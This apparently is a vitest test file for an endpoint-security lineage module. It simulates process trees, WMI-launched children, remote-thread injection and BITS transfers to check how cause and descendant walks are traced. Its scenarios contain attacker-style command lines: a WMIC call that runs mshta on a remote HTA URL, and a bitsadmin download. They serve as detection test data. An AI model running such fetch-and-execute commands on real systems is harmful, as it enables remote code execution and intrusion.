import { describe, expect, it } from 'vitest';
import { micros } from '../../base/time';
import type { EndpointEvent, EntityId, EventKind } from '../../events/endpointEvent';
import { scenario } from '../../events/scenario';
import type { Scenario, StoryProcess } from '../../events/story';
import { buildLineage } from '../../lineage/buildLineage';
import { buildVisibility } from '../../visibility/visibility';
import type { Match } from '../chain';
import { NO_HISTORY } from '../history/history';
import type { HostIndex } from '../host/hostIndex';
import { indexHost } from '../host/indexHost';
import type { Lists } from '../lists';
import type { Candidate } from './candidate';
import { writtenByAncestor } from './fileRelations';
import { causesOf, descendants, upward } from './lineageRelations';

const SYSTEM32 = 'C:\\Windows\\System32\\';
const URL = 'http://203.0.113.9/a.hta';
const UNJOINED: Pick<Match, 'relation' | 'joined' | 'alternative' | 'windowLimit' | 'file' | 'unjudged'> = {
  relation: undefined,
  joined: undefined,
  alternative: undefined,
  windowLimit: undefined,
  file: undefined,
  unjudged: false,
};

describe('a walk down the lineage', () => {
  it('goes on from who asked over WMI to what was started, and below it', () => {
    const { s, asker, started, below } = overWmi();
    const found = walk(s, asker);
    expect(found.map(({ process, strength }) => [process, strength])).toEqual([
      [started.entityId, 'inferred'],
      [below.entityId, 'inferred'],
    ]);
    expect(found[0]?.hops[0]?.text).toContain('asked WMI to start mshta.exe');
  });

  it('counts what an injected process and its children did from the injection on', () => {
    const s = scenario();
    const source = s.starts(`${SYSTEM32}cmd.exe`);
    const target = s.starts(`${SYSTEM32}notepad.exe`);
    const before = s.starts(`${SYSTEM32}whoami.exe`, { parent: target });
    s.writes(target, 'C:\\before.txt');
    s.after('1m');
    inject(s, source, target);
    s.writes(target, 'C:\\after.txt');
    const after = s.starts(`${SYSTEM32}net.exe`, { parent: target });
    const found = walk(s, source, ['process_start', 'file_create']);
    expect(found.flatMap(({ events }) => events.map((event) => event['file.path'])).filter(Boolean)).toEqual([
      'C:\\after.txt',
    ]);
    const processes = found.map(({ process }) => process);
    expect(processes).toContain(after.entityId);
    expect(processes).not.toContain(before.entityId);
  });

  it('ends where processes injected into each other in a circle', () => {
    const s = scenario();
    const [a, b] = [s.starts(`${SYSTEM32}a.exe`), s.starts(`${SYSTEM32}b.exe`)];
    for (let i = 0; i < 50; i++) {
      inject(s, a, b);
      inject(s, b, a);
    }
    expect(walk(s, a, ['remote_thread'], 400).length).toBeLessThan(20);
  });

  it('gives of a service that works for many only what it did for the one', () => {
    const s = scenario();
    const bits = s.starts(`${SYSTEM32}svchost.exe`, {
      parent: s.services,
      commandLine: 'svchost.exe -k netsvcs -s BITS',
    });
    const asker = s.starts(`${SYSTEM32}bitsadmin.exe`, {
      commandLine: 'bitsadmin /transfer x http://cdn.offer.example/a C:\\a',
    });
    s.tells('bits_transfer', undefined, { 'url.full': 'http://cdn.offer.example/a' });
    s.connects(bits, '203.0.113.9', 443, { domain: 'cdn.offer.example' });
    s.connects(bits, '198.51.100.7', 443, { domain: 'update.example' });
    const found = walk(s, asker, ['network_connect', 'bits_transfer']);
    expect(
      found.flatMap(({ events }) => events.map((event) => event['destination.domain'] ?? event.kind)).sort(),
    ).toEqual(['bits_transfer', 'cdn.offer.example']);
  });
});

describe('a walk up the lineage', () => {
  it('takes no later injection for a cause of what had been started before it', () => {
    const s = scenario();
    const source = s.starts(`${SYSTEM32}cmd.exe`);
    const target = s.starts(`${SYSTEM32}notepad.exe`);
    s.writes(source, 'C:\\dropped.js');
    const early = s.starts(`${SYSTEM32}whoami.exe`, { parent: target });
    s.after('1m');
    inject(s, source, target);
    const late = s.starts(`${SYSTEM32}net.exe`, { parent: target });
    const index = indexOf(s);
    const writtenBefore = (process: StoryProcess): readonly unknown[] => {
      const start = index.startOf(process.entityId);
      if (start === undefined) throw new Error('its start is recorded');
      const from = { event: start, evidence: start, process: process.entityId, time: start.time };
      const wanted = { from: micros(0), to: start.time, on: new Set<EventKind>(['file_create']) };
      return [...writtenByAncestor(process.entityId, 3, { ...UNJOINED, ...from }, wanted, index)];
    };
    expect(writtenBefore(early)).toEqual([]);
    expect(writtenBefore(late)).not.toEqual([]);
  });

  it('reaches the parent and who asked, each once, by the better way', () => {
    const { s, asker, service, started, below } = overWmi();
    const index = indexOf(s);
    const found = [...upward(below.entityId, 2, index)];
    expect(found.map(({ id }) => id).sort()).toEqual(
      [asker.entityId, service.entityId, started.entityId].sort(),
    );
    const grade = (id: EntityId): readonly string[] | undefined =>
      found.find((one) => one.id === id)?.hops.map(({ strength }) => strength);
    expect(grade(service.entityId)).toEqual(['exact', 'broken']);
    expect(grade(asker.entityId)).toEqual(['exact', 'inferred']);
  });

  it('leads from an injected process to the source, but not for what it did before', () => {
    const s = scenario();
    const source = s.starts(`${SYSTEM32}cmd.exe`);
    const target = s.starts(`${SYSTEM32}notepad.exe`);
    const at = s.events().at(-1)?.time;
    s.after('1m');
    inject(s, source, target);
    const index = indexOf(s);
    const node = index.nodeOf(target.entityId);
    const ids = (until?: EndpointEvent['time']): readonly EntityId[] =>
      node === undefined ? [] : causesOf(node, index, until).map(({ id }) => id);
    expect(ids()).toContain(source.entityId);
    expect(ids(at)).not.toContain(source.entityId);
  });

  it('ends in a circle of injections', () => {
    const s = scenario();
    const [a, b] = [s.starts(`${SYSTEM32}a.exe`), s.starts(`${SYSTEM32}b.exe`)];
    inject(s, a, b);
    inject(s, b, a);
    expect([...upward(a.entityId, 400, indexOf(s))].map(({ id }) => id).sort()).toEqual(
      [b.entityId, s.explorer.entityId].sort(),
    );
  });
});

/** Every list there is, all of them empty. */
const NO_LISTS: Lists = Object.assign(new Map<string, readonly string[]>(), { get: () => [] });

function overWmi(): Record<'asker' | 'service' | 'started' | 'below', StoryProcess> & { s: Scenario } {
  const s = scenario();
  const service = s.starts(`${SYSTEM32}wbem\\WmiPrvSE.exe`, { parent: s.svchost });
  const asker = s.starts(`${SYSTEM32}wbem\\WMIC.exe`, {
    commandLine: `wmic process call create "mshta ${URL}"`,
  });
  const started = s.starts(`${SYSTEM32}mshta.exe`, { parent: service, commandLine: `mshta ${URL}` });
  const below = s.starts(`${SYSTEM32}cmd.exe`, { parent: started });
  return { s, asker, service, started, below };
}

function inject(s: Scenario, source: StoryProcess, target: StoryProcess): void {
  s.tells('remote_thread', source, { 'Target.process.entity_id': target.entityId });
}

function indexOf(s: Scenario): HostIndex {
  const events = s.events();
  return indexHost(events, buildLineage(events), buildVisibility(events), NO_LISTS, NO_HISTORY);
}

type Found = {
  readonly process: EntityId | undefined;
  readonly strength: string;
  readonly hops: Candidate['hops'];
  readonly events: readonly EndpointEvent[];
};

/** What a walk finds; runs of events are read for their wanted ones, and left out where they have none. */
function walk(
  s: Scenario,
  root: StoryProcess,
  kinds: readonly EventKind[] = ['process_start'],
  depth = 8,
): readonly Found[] {
  const index = indexOf(s);
  const events = s.events();
  const on = new Set<EventKind>(kinds);
  const [from, to] = [events[0]?.time, events.at(-1)?.time];
  if (from === undefined || to === undefined) return [];
  return [...descendants(root.entityId, depth, { from, to, on }, index)].flatMap((candidate): Found[] => {
    const { process, strength, hops } = candidate;
    const own =
      'run' in candidate
        ? candidate.run.filter(
            ({ time, kind }) => on.has(kind) && time >= candidate.from && time <= candidate.to,
          )
        : candidate.event === undefined
          ? []
          : [candidate.event];
    return own.length === 0 ? [] : [{ process, strength, hops, events: own }];
  });
}
